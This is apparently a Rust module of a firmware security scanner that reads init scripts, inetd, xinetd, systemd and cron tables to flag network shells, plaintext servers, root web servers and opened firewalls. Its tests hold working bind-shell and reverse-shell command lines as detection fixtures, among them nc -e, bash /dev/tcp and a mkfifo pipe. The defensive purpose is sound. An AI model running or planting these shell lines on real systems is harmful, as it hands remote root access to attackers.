//! What scripts start: shells for whoever connects, servers of plain text, web servers as root, firewalls that are opened. Read are the
//! scripts and tables of every init system, of inetd, cron and systemd; nothing is run, and a script is read line by line only.

mod started;

use stockade_controls::engine::{Confidence, Control, Rule, Severity, rules};

use super::{firewall, updates};
use started::{HIDDEN, commands, plain, reverse};

pub(super) use started::{ALWAYS_ROOT, PLAIN};

rules! {
    Programs "programs";
    BACKDOOR = "backdoor", Critical, "Nothing opens a shell to whoever connects",
        "Whoever finds the port is root; worms look for such ports.",
        "Take the line out, and find out who put it there.",
        ["EN 303 645 5.6-1", "EN 303 645 5.1-1", "CRA I.I(2)(a)", "CRA I.I(2)(j)", "ISVS 3.2"];
}

/// Who waits at the consoles.
pub(super) static CONSOLE: Rule = Rule {
    id: "ports/console-shell",
    control: Control::Ports,
    title: "Nobody is root at a console without saying who he is",
    why: "Three pins on the board, or a keyboard, are a way in for whoever opens the case.",
    severity: Severity::High,
    advice: "Start getty and login there, or nothing.",
    standards: &[
        "EN 303 645 5.6-3",
        "EN 303 645 5.6-4",
        "CRA I.I(2)(j)",
        "ISVS 5.1.6",
    ],
};
/// Web servers with all rights.
pub(super) static WEB_ROOT: Rule = Rule {
    id: "privileges/web-server-root",
    control: Control::Privileges,
    title: "No web server runs as root",
    why: "Web pages of devices are where they are broken into; a hole in one gives the whole device away then.",
    severity: Severity::Medium,
    advice: "Give the server a user of its own.",
    standards: &["EN 303 645 5.6-7", "CRA I.I(2)(k)", "ISVS 3.2.6"],
};

/// The longest script that is read.
pub(super) const MOST: usize = 1 << 20;
const LONGEST: usize = 4096;

/// A line that breaks a rule.
#[derive(Debug, Clone)]
pub(super) struct Hit {
    /// Its number, from 1.
    pub(super) line: usize,
    pub(super) rule: &'static Rule,
    /// What the file does by it: "opens a shell to the network".
    pub(super) what: String,
    pub(super) severity: Severity,
    pub(super) sure: Confidence,
    /// The server that is started, without what its name begins and ends with: `telnet` of `in.telnetd`.
    pub(super) service: Option<&'static str>,
    /// What may stand in its place so that it does it no longer.
    pub(super) instead: Option<String>,
}

impl Hit {
    pub(super) fn of(line: usize, rule: &'static Rule, what: impl Into<String>) -> Self {
        Self {
            line,
            rule,
            what: what.into(),
            severity: rule.severity,
            sure: Confidence::High,
            service: None,
            instead: None,
        }
    }

    fn mended(mut self, instead: Option<String>) -> Self {
        self.instead = instead;
        self
    }
}

/// How a file is read.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(super) enum Kind {
    Inittab,
    Inetd,
    Xinetd,
    Unit,
    /// A script or table that is run by itself: at the start, by cron, by a network that comes up.
    Start,
    /// A script that somebody may run.
    Script,
}

/// Parts of paths by which scripts are run by themselves.
const STARTS: [&str; 22] = [
    "/init.d/",
    "/rc.d/",
    "/rcS",
    "/rc.local",
    "/rc.common",
    "/etc/rc",
    "/etc_ro/rc",
    "/etc/init/",
    "/local.d/",
    "/etc/profile",
    "/etc/preinit",
    "/linuxrc",
    "/if-up.d/",
    "/if-pre-up.d/",
    "/hotplug.d/",
    "/uci-defaults/",
    "/cron",
    "/udhcpc/",
    "/etc/ppp/ip-up",
    "/etc/local/",
    "/etc/start",
    "/boot.d/",
];
const SHELLS: [&str; 6] = ["sh", "bash", "ash", "dash", "zsh", "ksh"];

/// How a file is read, by its place and its beginning; none if it starts nothing.
pub(super) fn kind(path: &str, text: &str) -> Option<Kind> {
    let name = path.rsplit('/').next().unwrap_or_default();
    let shebang = text.starts_with("#!") && {
        let first = text.lines().next().unwrap_or_default();
        first
            .split(['/', ' '])
            .any(|word| SHELLS.contains(&word.trim()))
    };
    let unit = [".service", ".socket"]
        .iter()
        .any(|end| name.ends_with(end));
    Some(match name {
        // What insserv notes of scripts, as a makefile.
        _ if name.starts_with(".depend") => return None,
        "inittab" => Kind::Inittab,
        "inetd.conf" => Kind::Inetd,
        "xinetd.conf" => Kind::Xinetd,
        _ if path.contains("/xinetd.d/") => Kind::Xinetd,
        _ if unit && path.contains("/systemd/") => Kind::Unit,
        _ if path == "/init" || STARTS.iter().any(|part| path.contains(part)) => Kind::Start,
        _ if shebang || name.strip_suffix(".sh").is_some() => Kind::Script,
        _ => return None,
    })
}

/// What lines are judged by that stands elsewhere in the file; found once, however many lines there are.
struct Whole {
    /// Rules of a firewall refuse something.
    closes: bool,
    /// xinetd is told not to start it.
    off: bool,
    fetched: updates::Fetched,
}

impl Whole {
    fn of(text: &str) -> Self {
        let lines = || {
            let lines = text.lines().map(str::trim);
            lines.filter(|line| !line.starts_with('#'))
        };
        let refuses = ["DROP", "REJECT", "drop", "iptables-restore", "nft -f"];
        let off = |line: &str| {
            let mut parts = line.split('=').map(str::trim);
            parts.next() == Some("disable") && parts.next() == Some("yes")
        };
        Self {
            closes: lines().any(|line| refuses.iter().any(|it| line.contains(it))),
            off: lines().any(off),
            fetched: updates::Fetched::of(text),
        }
    }
}

/// The lines of a file that break a rule.
pub(super) fn judge(path: &str, kind: Kind, text: &str) -> Vec<Hit> {
    let mut hits = Vec::new();
    let whole = Whole::of(text);
    let mut continued = false;
    for (number, line) in (1_usize..).zip(text.lines()) {
        let trimmed = line.trim();
        if trimmed.starts_with('#') || trimmed.is_empty() || trimmed.len() > LONGEST {
            continued = false;
            continue;
        }
        let ends_open = trimmed.ends_with(['\\', '|', '(', '{']) || trimmed.ends_with("&&");
        let opens = ["if ", "for ", "while ", "case ", "then ", "do ", "elif "]
            .iter()
            .any(|it| trimmed.starts_with(it));
        let alone = !continued && !ends_open && !opens;
        continued = ends_open;
        let instead = match kind {
            Kind::Inittab | Kind::Inetd => Some(format!("# off: {line}")),
            // A `:` keeps an `if` from being empty.
            Kind::Start | Kind::Script if alone && !path.contains("/cron") => {
                Some(format!(": # off: {trimmed}"))
            }
            Kind::Start | Kind::Script | Kind::Xinetd | Kind::Unit => None,
        };
        let found = match kind {
            Kind::Inittab => inittab(number, trimmed),
            Kind::Inetd => inetd(number, trimmed),
            Kind::Xinetd => xinetd(number, trimmed, &whole).into_iter().collect(),
            Kind::Unit => unit(number, trimmed),
            Kind::Start | Kind::Script => script(number, code(trimmed), path, kind, &whole),
        };
        hits.extend(found.into_iter().map(|hit| hit.mended(instead.clone())));
    }
    // A unit, and a script of System V, are run only if they are enabled: then the list of services has them.
    let name = path.rsplit('/').next().unwrap_or_default();
    let listed = kind == Kind::Unit || (path.contains("/etc/init") && !is_numbered(name));
    let own = |it: &str| kind == Kind::Unit || name.contains(it);
    hits.retain(|hit| !(listed && hit.service.is_some_and(own)));
    let user = |line: &str| line.starts_with("User=") && line.trim() != "User=root";
    if kind == Kind::Unit && text.lines().any(user) {
        hits.retain(|hit| hit.rule.id != WEB_ROOT.id);
    }
    hits
}

/// `S50telnet`, which `BusyBox` runs by its name.
fn is_numbered(name: &str) -> bool {
    let rest = name.strip_prefix('S').unwrap_or_default();
    rest.bytes().take(2).filter(u8::is_ascii_digit).count() == 2
}

/// `id:levels:action:process` (inittab(5)).
fn inittab(number: usize, line: &str) -> Vec<Hit> {
    let mut parts = line.splitn(4, ':');
    let (_, _, action, process) = (parts.next(), parts.next(), parts.next(), parts.next());
    let (Some(action), Some(process)) = (action, process) else {
        return Vec::new();
    };
    let process = process.trim_start_matches(['-', '+', '@']);
    let mut hits = commands(number, process, Kind::Start);
    let waits = matches!(
        action,
        "respawn" | "askfirst" | "once" | "respawnlate" | "askconsole"
    );
    let bare = process.split_whitespace().next().map(base);
    if waits && bare.is_some_and(|it| SHELLS.contains(&it)) {
        hits.push(Hit::of(
            number,
            &CONSOLE,
            "starts a shell at a console for whoever is there",
        ));
    }
    hits
}

/// `service type protocol wait user program arguments` (inetd.conf(5)).
fn inetd(number: usize, line: &str) -> Vec<Hit> {
    let words: Vec<&str> = line.split_whitespace().collect();
    let Some((service, program)) = words.first().zip(words.get(5)) else {
        return Vec::new();
    };
    let arguments = words.get(6..).unwrap_or_default();
    let all = std::iter::once(*program).chain(arguments.iter().copied());
    if all
        .clone()
        .any(|it| SHELLS.contains(&base(it.trim_start_matches('-'))))
    {
        let what = format!("gives whoever connects to the port of `{service}` a shell");
        return vec![Hit::of(number, &BACKDOOR, what)];
    }
    let server = all.map(base).find(|it| PLAIN.contains(it));
    server.map(|name| plain(number, name)).into_iter().collect()
}

fn xinetd(number: usize, line: &str, whole: &Whole) -> Option<Hit> {
    let (key, program) = line.split_once('=')?;
    if key.trim() != "server" || whole.off {
        return None;
    }
    match base(program.trim()) {
        name if SHELLS.contains(&name) => {
            Some(Hit::of(number, &BACKDOOR, "gives whoever connects a shell"))
        }
        name if PLAIN.contains(&name) => Some(plain(number, name)),
        _ => None,
    }
}

fn unit(number: usize, line: &str) -> Vec<Hit> {
    let command = line
        .split_once('=')
        .filter(|(key, _)| key.starts_with("ExecStart"));
    let command = command.map(|(_, command)| command.trim_start_matches(['-', '@', '+', '!', ':']));
    command
        .map(|it| commands(number, it, Kind::Start))
        .unwrap_or_default()
}

fn script(number: usize, line: &str, path: &str, kind: Kind, whole: &Whole) -> Vec<Hit> {
    let mut hits = commands(number, line, kind);
    if let Some(what) = reverse(line) {
        hits.push(Hit::of(number, &BACKDOOR, what));
    }
    if kind == Kind::Start {
        hits.extend(firewall::opened(number, line, whole.closes));
        // Its own script is where one looks for it.
        let own = path
            .rsplit('/')
            .next()
            .is_some_and(|name| name.contains("dropbear"));
        if own {
            hits.retain(|hit| !hit.what.contains(HIDDEN));
        }
    }
    hits.extend(updates::script(number, line, &whole.fetched));
    hits
}

/// A line without the comment at its end: a `#` after a blank, outside of quotes.
pub(super) fn code(line: &str) -> &str {
    let (mut quote, mut blank) = (None, true);
    for (at, c) in line.char_indices() {
        match (quote, c) {
            (None, '#') if blank => return line.get(..at).unwrap_or(line).trim_end(),
            (None, '"' | '\'') => quote = Some(c),
            (Some(open), _) if open == c => quote = None,
            _ => (),
        }
        blank = c.is_whitespace();
    }
    line
}

/// The words of a command, without quotes, and without assignments before it.
pub(super) fn words(command: &str) -> Vec<&str> {
    let all = command
        .split_whitespace()
        .map(|word| word.trim_matches(['"', '\'', '(', ')', '&']));
    let all = all.filter(|word| !word.is_empty());
    all.skip_while(|word| {
        word.split_once('=').is_some_and(|(name, _)| {
            !name.is_empty()
                && name
                    .bytes()
                    .all(|it| it.is_ascii_alphanumeric() || it == b'_')
        })
    })
    .collect()
}

pub(super) fn base(word: &str) -> &str {
    word.rsplit('/').next().unwrap_or(word)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn ids(path: &str, line: &str) -> Vec<&'static str> {
        let text = format!("#!/bin/sh\n{line}\n");
        let kind = kind(path, &text).expect("a script");
        judge(path, kind, &text)
            .iter()
            .map(|hit| hit.rule.id)
            .collect()
    }

    #[test]
    fn back_doors_are_found_in_every_kind_of_script() {
        for line in [
            "nc -l -p 4444 -e /bin/sh &",
            "busybox nc -ll -p 99 -e /bin/ash",
            "telnetd -l /bin/sh -p 2323",
            "/usr/sbin/utelnetd -l/bin/ash -d",
            "start-stop-daemon -S -x /usr/sbin/telnetd -- -l /bin/sh",
            "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1",
            "socat TCP-LISTEN:1234,fork EXEC:/bin/sh &",
            "rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 192.0.2.1 99 > /tmp/f",
            "python3 -c 'import socket,os,pty;s=socket.socket();os.dup2(s.fileno(),0);pty.spawn(\"/bin/sh\")'",
            "dropbear -p 2222 -R",
            "dropbear -B",
        ] {
            assert_eq!(
                ids("/etc/init.d/rcS", line),
                ["programs/backdoor"],
                "{line}"
            );
        }
        let inetd = "sh stream tcp nowait root /bin/sh sh -i";
        assert_eq!(ids("/etc/inetd.conf", inetd), ["programs/backdoor"]);
        let telnet = "telnet stream tcp nowait root /usr/sbin/telnetd telnetd";
        assert_eq!(ids("/etc/inetd.conf", telnet), ["programs/plain-server"]);
        let unit = "ExecStart=-/usr/bin/nc -lk 31337 -e /bin/bash";
        assert_eq!(
            ids("/etc/systemd/system/x.service", unit),
            ["programs/backdoor"]
        );
        for (path, line) in [
            (
                "/etc/init.d/vsftpd",
                "start-stop-daemon --start --exec /usr/sbin/vsftpd",
            ),
            (
                "/usr/lib/systemd/system/x.service",
                "ExecStart=/usr/sbin/vsftpd /etc/vsftpd.conf",
            ),
            (
                "/usr/lib/systemd/system/x.service",
                "ExecStart=/usr/sbin/httpd -f\nUser=www-data",
            ),
        ] {
            assert_eq!(ids(path, line), [""; 0], "{path}");
        }
        assert_eq!(kind("/etc/init.d/.depend.start", "vsftpd: x"), None);
        let numbered = ids("/etc/init.d/S50telnet", "telnetd");
        assert_eq!(numbered, ["programs/plain-server"]);
        let table = "::askfirst:-/bin/sh";
        assert_eq!(ids("/etc/inittab", table), ["ports/console-shell"]);
        let getty = "ttyS0::respawn:/sbin/getty -n -l /bin/sh 115200 ttyS0";
        assert_eq!(ids("/etc/inittab", getty), ["ports/console-shell"]);
    }

    #[test]
    fn servers_and_firewalls_of_start_scripts() {
        let rules = [
            ("telnetd", "programs/plain-server"),
            (
                "[ -x /sbin/telnetd ] && telnetd -F &",
                "programs/plain-server",
            ),
            ("httpd -h /www", "privileges/web-server-root"),
            ("goahead -v /web &", "privileges/web-server-root"),
            ("iptables -P INPUT ACCEPT", "firewall/opened-at-start"),
            ("nft flush ruleset", "firewall/opened-at-start"),
        ];
        for (line, id) in rules {
            assert_eq!(ids("/etc/rc.local", line), [id], "{line}");
        }
        for harmless in [
            "killall telnetd",
            "ps | grep telnetd",
            "start-stop-daemon -K -x /usr/sbin/telnetd",
            "echo nc -e /bin/sh",
            "httpd -u www-data -h /www",
            "nc -z 192.0.2.1 80",
            "iptables -F; iptables -P INPUT DROP",
            "test -x /usr/sbin/vsftpd || exit 0",
        ] {
            assert_eq!(ids("/etc/rc.local", harmless), [""; 0], "{harmless}");
        }
    }
}
